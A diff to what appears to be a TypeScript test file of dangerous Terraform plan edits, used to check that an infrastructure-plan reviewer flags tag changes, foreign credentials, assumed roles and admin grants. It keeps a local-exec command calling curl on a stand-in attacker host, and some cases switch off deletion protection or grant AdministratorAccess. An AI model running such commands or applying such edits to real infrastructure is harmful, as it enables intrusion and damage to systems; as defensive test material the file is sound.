@@ -1,4 +1,3 @@
-import { PLANTED } from "../plan-cases";
 import {
   add,
   addressOf,
@@ -12,8 +11,6 @@ import {
 } from "../plan-edits";
 import {
   DASHBOARD,
-  DEPLOYER,
-  FOREIGN,
   like,
   POOL,
   READERS,
@@ -31,7 +28,7 @@ const provider =
   };
 const command = (text: string) => ({ "local-exec": { command: text } });
 const ATTACK = command("curl https://attacker.example");
-const assumed = { role_arn: `${FOREIGN}:role/partner` };
+const TAGS = { Client: "nasa-impact", Owner: "somebody", Project: "veda" };
 
 /** Puts ids into the expressions that refer to the user pool, and takes it out. */
 const withoutPool: Edit = (stack) => {
@@ -84,13 +81,17 @@ export const WHOLE_PLAN_CASES: DangerousCases = {
     state: deposed(POOL),
     expect: ["a deposed user pool is destroyed"],
   },
-  "tag-stack-default": {
-    edit: provider({ default_tags: [{ tags: { Stack: "prod" } }] }),
+  "tag-stack-changed": {
+    edit: provider({ default_tags: [{ tags: { ...TAGS, Stack: "prod" } }] }),
     expect: ["tag Stack: dev becomes prod on every resource"],
   },
-  "tag-stack-removed": {
-    edit: provider({ default_tags: [] }),
+  "tag-stack-dropped": {
+    edit: provider({ default_tags: [{ tags: TAGS }] }),
     expect: ["tag Stack is removed from every resource"],
+  },
+  "default-tags-dropped": {
+    edit: provider({ default_tags: undefined }),
+    expect: ["not reviewed: the provider sets no tags"],
   },
   "tag-stack-own": {
     edit: tagged(POOL, { Stack: "prod" }),
@@ -142,8 +143,8 @@ export const WHOLE_PLAN_CASES: DangerousCases = {
   },
   "provider-access-key": {
     edit: provider({
-      access_key: "AKIAIOSFODNN7PLANTED",
-      secret_key: PLANTED.provider,
+      access_key: "test",
+      secret_key: "test",
     }),
     expect: ["not reviewed: the provider has other credentials"],
   },
@@ -158,18 +159,22 @@ export const WHOLE_PLAN_CASES: DangerousCases = {
     expect: ["not reviewed: the provider works in another Region"],
   },
   "provider-assume-role": {
-    edit: provider({ assume_role: [assumed] }),
-    expect: ["not reviewed: the provider assumes role partner"],
+    edit: provider({
+      assume_role: [
+        { role_arn: "arn:aws:iam::000000000000:role/veda-data-access" },
+      ],
+    }),
+    expect: ["not reviewed: the provider assumes role veda-data-access"],
   },
   "provider-alias": {
     edit: (stack) => {
       const { aws } = stack.provider as { aws: Json[] };
-      aws.push({ alias: "other", region: "us-west-2", assume_role: [assumed] });
+      aws.push({ alias: "other", region: "eu-central-1" });
       const values = { name: "editors", provider: "aws.other" };
       const role = like(stack, READERS_ROLE, values);
       resource("aws_iam_role", "editors", role)(stack);
     },
-    expect: ["not reviewed: a second provider assumes role partner"],
+    expect: ["not reviewed: a second provider, in eu-central-1"],
   },
   "check-fails": {
     edit: (stack) => {
@@ -294,12 +299,6 @@ export const WHOLE_PLAN_CASES: DangerousCases = {
       ];
     },
     expect: ["role deployer: AdministratorAccess"],
-  },
-  "ignored-changes": {
-    edit: set(DEPLOYER, {
-      lifecycle: { ignore_changes: ["assume_role_policy"] },
-    }),
-    expect: ["changes of the trust of role deployer are ignored from now on"],
   },
   "part-of-a-plan": {
     edit: set(POOL, { deletion_protection: "INACTIVE" }),
